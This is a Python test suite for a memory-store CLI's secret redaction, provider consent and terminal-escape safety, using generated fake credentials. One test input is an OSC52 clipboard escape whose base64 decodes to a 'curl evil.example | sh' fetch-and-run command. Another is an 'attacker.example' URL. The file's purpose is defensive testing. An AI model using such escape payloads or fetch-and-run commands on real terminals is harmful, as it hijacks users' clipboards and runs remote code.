"""No secret stored or sent. Each test is named for what a user would see go wrong
(a key reaching the server's request log, a password cut short in a file, a setting read the wrong way)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import fake_secrets as fs
import pytest
import yaml
from helpers import add, memory_files, ok, on_a_terminal, run, store_root, write_tree
from provider_helpers import GOOD_LINE, NOTE, stored, use_server
from script_server import ScriptServer

from memcli.privacy.redact import redact


def edit_raw(memory_id: str, extra: str) -> None:
    """A hand edit or a merge: text appended to a memory's file behind the write-time gate."""
    path = next(p for p in memory_files() if p.stem == memory_id)
    data = yaml.safe_load(path.read_text())
    data["raw"] += extra
    path.write_text(yaml.safe_dump(data, sort_keys=False))


def set_settings(**values) -> None:
    path = store_root() / "mem.yaml"
    settings = yaml.safe_load(path.read_text()) | values
    path.write_text(yaml.safe_dump(settings, sort_keys=False))


# -- a cut-off SSH2 key block is never sent ------------------------------------------------------

def test_compress_never_sends_an_ssh2_key_block_cut_before_its_end_line():
    with ScriptServer(default=("ok", GOOD_LINE)) as server:
        use_server(server.base_url)
        memory_id = add(NOTE, "--defer")
        block = "\n".join(["---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----", *fs.key_body()])
        edit_raw(memory_id, "\n" + block)
        ok("compress", "--pending")
    assert server.requests == []
    info = stored(memory_id)["compression"]
    assert info["status"] == "quarantined" and "private-key" in info["reason"]


def key_tail() -> tuple[str, list[str]]:
    """The end of an RSA key as a paste that started mid-key leaves it: body lines and the END line."""
    body = fs.key_body(6)
    return "\n".join(fs.pem(body).splitlines()[3:]), body[2:]


def test_the_tail_of_a_private_key_is_neither_stored_nor_sent():
    tail, body = key_tail()
    with ScriptServer(default=("ok", GOOD_LINE)) as server:
        use_server(server.base_url)
        add(f"{NOTE}\n\nthe rest of the deploy key:\n{tail}\nthat is all of it")
    assert "[REDACTED:private-key]" in ok("export").stdout and "that is all of it" in stored_text()
    assert not any(line in stored_text() for line in body)
    assert "END RSA PRIVATE KEY" not in stored_text()
    assert all(line not in sent for sent in server.sent_texts() for line in body)


def test_compress_never_sends_a_key_tail_a_hand_edit_put_in_a_memory_file():
    tail, _ = key_tail()
    with ScriptServer(default=("ok", GOOD_LINE)) as server:
        use_server(server.base_url)
        memory_id = add(NOTE, "--defer")
        edit_raw(memory_id, "\n" + tail)
        ok("compress", "--pending")
    assert server.requests == []
    assert stored(memory_id)["compression"]["status"] == "quarantined"


def test_an_end_line_left_alone_stops_the_write():
    refused = run("add", "the key ended here\n" + "-" * 5 + "END OPENSSH PRIVATE KEY" + "-" * 5)
    assert refused.exit_code == 7 and "private key" in refused.stderr
    assert memory_files() == []


# -- a setting of the wrong type is refused by name, never coerced -------

def test_quoted_send_to_remote_false_is_refused_by_name_and_nothing_is_sent():
    with ScriptServer(default=("ok", GOOD_LINE)) as server:
        use_server(server.base_url, send_to_remote="false")
        result = run("add", NOTE)
    assert result.exit_code != 0 and server.requests == []
    assert "'send_to_remote' must be true or false (unquoted), got 'false'" in result.stderr
    assert memory_files() == []


@pytest.mark.parametrize("setting, value", [("compress_timeout_s", float("nan")), ("max_input_bytes", "1000"),
                                            ("compress_timeout_s", True), ("on_similar", 1)])
def test_a_store_setting_of_the_wrong_type_is_refused_by_name(setting, value):
    ok("init")
    set_settings(**{setting: value})
    result = run("add", "the deploy runs at noon")
    assert result.exit_code != 0 and f"setting {setting!r} must be" in result.stderr


@pytest.mark.parametrize("setting, value", [("timeout_seconds", float("nan")), ("backoff_seconds", -1),
                                            ("max_backoff_seconds", -2.5), ("max_retries", 1.5)])
def test_a_provider_setting_that_would_fail_at_run_time_is_refused_when_read(setting, value):
    use_server("http://127.0.0.1:9/v1", **{setting: value})
    result = run("add", "the deploy runs at noon")
    assert result.exit_code != 0 and setting in result.stderr and "Traceback" not in result.stderr


# -- credentials inside URLs ----------------------------------------------------------------

@pytest.mark.parametrize("url", ["http://svc:{p}@127.0.0.1:9/v1", "http://127.0.0.1:9/v1?api_key={p}",
                                 "http://{t}@127.0.0.1:9/v1"])
def test_a_credential_in_the_providers_base_url_is_refused_and_never_printed(url):
    password, token = fs.password(), fs.github_token()
    use_server(url.format(p=password, t=token))
    for command in (("add", NOTE), ("status",)):
        result = run(*command)
        assert result.exit_code != 0 and "base_url must not hold" in result.stderr
        assert password not in result.output + result.stderr and token not in result.stderr
    assert not (store_root() / ".index" / "provider.json").exists()


def test_a_url_password_after_a_user_part_that_is_itself_a_token_is_redacted():
    key_id, token, password = fs.aws_access_key(), fs.github_token(), fs.password()
    for user in (key_id, token):
        text = redact(f"git clone https://{user}:{password}@git.example.com/team/repo.git").text
        assert password not in text and user not in text and "[REDACTED:url-password]@git.example.com" in text


def stored_text() -> str:
    """Every memory file of the store, as text."""
    return "".join(path.read_text() for path in memory_files())


# -- bearer values anywhere, passwords with punctuation ----------------------------------------

def test_a_bearer_token_outside_an_authorization_header_is_not_stored():
    token = fs.rand(40, fs.ALNUM + "._-")
    add(f"token: Bearer {token}")
    add(f'the CI calls curl -H "X-Api: Bearer {token[::-1]}" before the deploy')
    text = stored_text()
    assert token not in text and token[::-1] not in text and text.count("[REDACTED:bearer-token]") >= 2


@pytest.mark.parametrize("line", ["password = Tr0ub4dor{p}&3", "DB_PASSWORD=Tr0ub4dor{p},x;y", "password: {p})}}]",
                                  "  export PGPASSWORD={p}&q"])
def test_a_password_holding_punctuation_is_redacted_to_the_end_of_its_line(line):
    password = fs.password()
    add(f"[pypi]\nusername = alice\n{line.format(p=password)}\nrepository = https://upload.example.com")
    text = stored_text()
    assert password not in text and "[REDACTED:password]\n" in text.replace("\\n", "\n").replace('"', "\n")
    assert "&3" not in text and ",x;y" not in text and "&q" not in text


# -- kubeconfig keys, credential files --------------------------------------------------------

def kubeconfig() -> tuple[str, str]:
    """A kubeconfig whose user holds a PEM private key in base64, and that base64."""
    import base64

    key = base64.b64encode(fs.pem(fs.key_body(), "EC PRIVATE KEY").encode()).decode()
    return (f"apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    client-key-data: {key}\n"
            "current-context: staging\n"), key


def test_a_kubeconfig_client_key_is_neither_stored_nor_sent():
    text, key = kubeconfig()
    with ScriptServer(default=("ok", GOOD_LINE)) as server:
        use_server(server.base_url)
        add(NOTE + "\n\nThe admin kubeconfig:\n" + text)
    assert key[:40] not in stored_text() and "client-key-data: [REDACTED:private-key]" in ok("export").stdout
    assert all(key[:40] not in sent for sent in server.sent_texts())


def test_ingest_of_a_home_folder_skips_credential_files(project):
    home = project / "home"
    write_tree(home, {".pgpass": f"db.internal:5432:app:alice:{fs.password()}\n",
                      ".netrc": f"default login anonymous password {fs.password()}\n",
                      ".bash_history": f"sshpass -p {fs.password()} ssh deploy@web1\n",
                      ".zsh_history": "ls\n", ".git-credentials": f"https://alice:{fs.password()}@git.example.com\n",
                      ".aws/credentials": f"[default]\naws_access_key_id = {fs.aws_access_key()}\n",
                      ".kube/config": kubeconfig()[0], "SERVER.PEM": "x", "notes.md": "The VPN is at vpn.example.com.\n"})
    summary = json.loads(ok("ingest", str(home), "--json").stdout)
    sources = sorted(memory["source"] for memory in map(json.loads, ok("export").stdout.splitlines()))
    assert summary["added"] == 1 and len(sources) == 1 and sources[0] == "home/notes.md#1"


@pytest.mark.parametrize("line", ["db.internal:5432:app:alice:{p}", "*:*:*:replicator:{p}",
                                  "default login anonymous password {p}", "machine ftp.example.com password {p} login bob",
                                  "sshpass -p '{p}' ssh deploy@web1", "sshpass -p{p} rsync -a . web1:/srv"])
def test_credential_file_lines_pasted_into_a_note_are_redacted(line):
    password = fs.password()
    add("from my dotfiles:\n" + line.format(p=password))
    assert password not in stored_text() and "[REDACTED:password]" in stored_text()


# -- mem's own API key is never written ----------------------------------------------------------

@pytest.mark.parametrize("code", [401, 500, 400])
def test_a_provider_error_quoting_the_api_key_writes_it_nowhere(monkeypatch, code):
    key = "plain" + fs.rand(28)  # no known shape: only mem's knowledge of its own key can hide it
    monkeypatch.setenv("MEM_TEST_PROVIDER_KEY", key)
    with ScriptServer(default=("echo", code)) as server:
        use_server(server.base_url, api_key_env="MEM_TEST_PROVIDER_KEY")
        result = ok("add", NOTE)
        status = ok("status", "--json")
    assert server.requests and server.requests[0]["headers"]["Authorization"] == f"Bearer {key}"
    assert "refused" in stored_text() + (store_root() / ".index" / "provider.json").read_text()
    for path in store_root().rglob("*"):
        assert not path.is_file() or key.encode() not in path.read_bytes(), path
    assert key not in result.stderr + result.stdout + status.stdout + status.stderr


def test_a_text_quoting_mems_own_api_key_stores_it_redacted(monkeypatch):
    key = "plain" + fs.rand(28)
    monkeypatch.setenv("MEM_TEST_PROVIDER_KEY", key)
    with ScriptServer(default=("ok", GOOD_LINE)) as server:
        use_server(server.base_url, api_key_env="MEM_TEST_PROVIDER_KEY")
        add(f"the proxy log said: rejected key {key} at 10:02", "--no-compress")
    assert key not in stored_text() and "[REDACTED:api-key]" in stored_text() and server.requests == []


# -- a local-only memory stays local in its new versions ----------------------------------------

@pytest.mark.parametrize("how", ["supersedes", "on-similar", "mcp"])
def test_a_new_version_of_a_local_only_memory_is_never_sent(how):
    import mcp_client

    newer = NOTE.replace("March 2024", "April 2024")
    with ScriptServer(default=("ok", GOOD_LINE)) as server:
        use_server(server.base_url)
        old = add(NOTE, "--local-only")
        if how == "supersedes":
            new = add(newer, "--supersedes", old)
        elif how == "on-similar":
            new = add(newer, "--on-similar", "update")
        else:
            async def scenario(client):
                return (await mcp_client.call(client, "memory_write", content=newer, supersedes=old))["id"]
            new = mcp_client.session(scenario)
        assert stored(new)["supersedes"] == [old]
    assert server.requests == []
    assert stored(new)["send_to_remote"] is False  # so `mem compress` and the idle worker keep it here too


def test_a_write_close_to_a_memory_that_may_be_sent_is_still_sent_once():
    with ScriptServer(default=("ok", GOOD_LINE)) as server:
        use_server(server.base_url)
        add(NOTE)
        new = add(NOTE.replace("March 2024", "April 2024"), "--on-similar", "update")
    assert len(server.requests) == 2 and stored(new)["compression"]["status"] == "done"


# -- threads and the provider's files are as private as the store -------------------------------

def test_threads_and_the_providers_state_are_0700_and_0600_under_umask_022(monkeypatch):
    import os
    import stat

    old = os.umask(0o022)
    try:
        with ScriptServer(default=("status", 500, {})) as server:
            use_server(server.base_url, store={"thread_summarize_every": 2})
            thread = json.loads(ok("thread", "new", "--title", "deploys", "--json").stdout)["id"]
            for n in range(4):
                ok("thread", "append", thread, "--role", "user", f"turn {n}: we deploy on fridays at {n}pm")
            add(NOTE)
    finally:
        os.umask(old)
    root = store_root()
    found = {str(p.relative_to(root)): stat.S_IMODE(p.stat().st_mode) for p in [root, *root.rglob("*")]}
    assert ".index/provider.json" in found and ".index/provider.lock" in found
    assert any(name.startswith("threads/") and name.endswith(".json") for name in found)
    for name, mode in found.items():
        assert mode == (0o700 if (root / name).is_dir() else 0o600), f"{name} is {oct(mode)}"


# -- a provider named by a committed mem.yaml needs the user's consent --------------------------

def test_a_key_variable_named_by_a_committed_mem_yaml_is_not_sent_until_the_user_agrees(project, monkeypatch):
    import subprocess

    subprocess.run(["git", "init", "-q", str(project)], check=True)
    secret = fs.aws_secret_key()
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", secret)
    with ScriptServer(default=("ok", GOOD_LINE)) as server:
        use_server(server.base_url, api_key_env="AWS_SECRET_ACCESS_KEY")
        first = ok("add", NOTE)
        assert server.requests == [] and "trusted_providers" in first.stderr and secret not in first.stderr
        assert stored(first.stdout.strip())["compression"]["status"] == "done"  # compressed here
        config = Path(os.environ["MEM_CONFIG_DIR"])  # the user's own config, outside the repository
        config.mkdir(parents=True, exist_ok=True)
        (config / "config.yaml").write_text(yaml.safe_dump(
            {"trusted_providers": [{"base_url": server.base_url, "api_key_env": "AWS_SECRET_ACCESS_KEY"}]}))
        agreed = ok("add", NOTE.replace("March", "May"))
    assert "trusted_providers" not in agreed.stderr
    assert [r["headers"]["Authorization"] for r in server.requests] == [f"Bearer {secret}"]


def test_a_private_store_uses_its_own_provider_without_asking(monkeypatch):
    monkeypatch.setenv("MEM_TEST_PROVIDER_KEY", "k" + fs.rand(20))
    with ScriptServer(default=("ok", GOOD_LINE)) as server:
        use_server(server.base_url, api_key_env="MEM_TEST_PROVIDER_KEY")
        result = ok("add", NOTE)
    assert len(server.requests) == 1 and "trusted_providers" not in result.stderr


# -- stored text never drives the terminal, whichever command prints it --------------------------

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # sets the clipboard
OSC0 = "\x1b]0;owned\x07"  # retitles the window


def test_context_tags_and_threads_print_stored_escape_sequences_as_visible_text():
    add(f"the deploy script is in ops/ {OSC52} and runs nightly", "-t", f"ops{OSC0}")
    thread = json.loads(ok("thread", "new", "--title", f"deploys {OSC0}", "--json").stdout)["id"]
    ok("thread", "append", thread, f"how do we deploy? {OSC52}")
    for args in (["context", "deploy script"], ["tags"], ["thread", "ls"], ["thread", "show", thread],
                 ["thread", "context", thread]):
        shown = on_a_terminal(*args)
        assert "\x1b]" not in shown and "\x07" not in shown, args
        assert "\\x1b]" in shown, args
    assert OSC52 in ok("thread", "context", thread).stdout  # exact when piped


# -- secret shapes stored before, one example of each family (written from the vendors' formats) --

def _families() -> list[tuple[str, str, str]]:
    """(family, a line holding the secret, the secret): values generated here, shapes as documented."""
    import base64

    hexa, b32, b64 = "0123456789abcdef", "abcdefghijklmnopqrstuvwxyz234567", fs.B64
    github = fs.github_token()
    hidden = fs.github_token()
    wide = "".join(chr(ord(c) + 0xFEE0) if c.isdigit() else c for c in hidden)
    gh2 = fs.github_token()
    pem_body = fs.rand(64, b64)
    rows = [
        ("aws secret key without its label", "deploy,{ak},{s}", fs.aws_secret_key()),
        ("gcp private_key_id", '"private_key_id": "{s}",', fs.rand(40, hexa)),
        ("google oauth token", "curl -H 'X-Goog: ya29.{s}'", fs.rand(80, fs.ALNUM + "_-")),
        ("google client secret", "client_secret GOCSPX-{s}", fs.rand(28, fs.ALNUM + "_-")),
        ("azure sas url", "https://acct.blob.core.windows.net/backups?sv=2022-11-02&sp=r&sig={s}", fs.rand(43, b64)),
        ("azure devops pat (52)", "the ADO pat {s} expires in May", fs.rand(52, b32)),
        ("azure devops pat (84)", "PAT={s}", fs.rand(76) + "AZDO" + fs.rand(4)),
        ("kubeconfig client-key-data", "    client-key-data: {s}",
         base64.b64encode(fs.pem(fs.key_body(), "RSA PRIVATE KEY").encode()).decode()),
        ("private key without its dashes", "BEGIN RSA PRIVATE KEY\n{s}\nEND RSA PRIVATE KEY", pem_body),
        (".netrc password first", "machine ci.example.com password {s} login deploy", fs.password()),
        (".netrc default entry", "default login anonymous password {s}", fs.password()),
        (".pgpass line", "db.internal:5432:*:app:{s}", fs.password()),
        ("Dockerfile ENV", "ENV API_TOKEN {s}", fs.rand(32)),
        ("fish set -x", "set -gx DB_PASSWORD {s}", fs.password()),
        ("wrapped over two lines", "token: {s}", github[:18] + "\n" + github[18:]),
        ("zero-width space inside", "use {s} for the bot", gh2[:12] + "\u200b" + gh2[12:]),
        ("full-width digits inside", "key {s}", wide),
        ("discord bot token", "DISCORD={s}", "MT" + fs.rand(24) + "." + fs.rand(6) + "." + fs.rand(38, fs.ALNUM + "_-")),
        ("sshpass -p", "sshpass -p {s} ssh root@10.0.0.7", fs.password()),
        ("htpasswd hash", "alice:$apr1${s}", fs.rand(8) + "$" + fs.rand(22, fs.ALNUM + "./")),
        ("shadow hash", "root:$6${s}:19000:0:99999:7:::", fs.rand(16) + "$" + fs.rand(86, fs.ALNUM + "./")),
        ("xml element", "<server><username>ci</username><password>{s}</password></server>", fs.password()),
        ("xml attribute", '<add key="db" password="{s}" />', fs.password()),
        ("age secret key", "AGE-SECRET-KEY-1{s}", fs.rand(58, "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L")),
        ("password said in prose", "the ssh password is {s}, keep it safe", "Xk3-" + fs.rand(6)),
        ("base64 of a known key shape", "export GH={s}", base64.b64encode(fs.github_token().encode()).decode()),
    ]
    return [(family, line.replace("{ak}", fs.aws_access_key()).format(s=secret), secret) for family, line, secret in rows]


FAMILIES = _families()


@pytest.mark.parametrize("family, line, secret", FAMILIES, ids=[f for f, _, _ in FAMILIES])
def test_a_secret_of_each_family_is_not_stored(family, line, secret):
    add(f"note for later:\n{line}\nthat was all")
    text = ok("export").stdout
    pieces = [piece for piece in secret.replace("\u200b", "\n").split("\n") if len(piece) >= 8]
    assert all(piece[-12:] not in text for piece in pieces), text
    assert "[REDACTED:" in text


@pytest.mark.parametrize("line", [
    "the password is stored in the keychain", "ENV PATH /usr/local/bin", "set -x EDITOR vim",
    "awk '{print $1$2}' access.log", "<password>${env.DEPLOY_PASSWORD}</password>", "commit " + "a1b2c3d4" * 5,
    "ＡＢＣＤ１２３４５６７８９０ は全角です", "deployment\nconfiguration", "echo aGVsbG8gd29ybGQgZnJvbSBtZW0=",
    "machine learning password manager", "the sig= parameter signs the URL"])
def test_look_alikes_of_the_new_families_are_left_as_written(line):
    assert redact(line).text == line


# -- smaller ones: a reply of the wrong shape falls back to the local compressor --------------------------

def test_a_reply_whose_content_is_not_text_falls_back_to_local_prune(fakes):
    with ScriptServer(default=("ok", ["TOPIC=billing"])) as server:
        use_server(server.base_url)
        memory_id = add(NOTE)
    info = stored(memory_id)["compression"]
    assert server.requests and info["method"] == "prune" and info["status"] == "done"
    assert "not a chat completion" in info["reason"]


@pytest.mark.parametrize("url, asks", [
    ("http://127.attacker.example:11434/v1", True), ("http://127.0.0.1.nip.io/v1", True),
    ("http://127.0.0.1:8080/v1", False), ("http://localhost:8080/v1", False), ("http://[::1]:8080/v1", False),
])
def test_a_server_needs_the_users_word_unless_it_is_this_machine(url, asks):
    from memcli.providers.consent import needs_consent
    from memcli.providers.settings import ProviderSettings

    assert needs_consent(ProviderSettings(name="ollama", base_url=url)) is asks
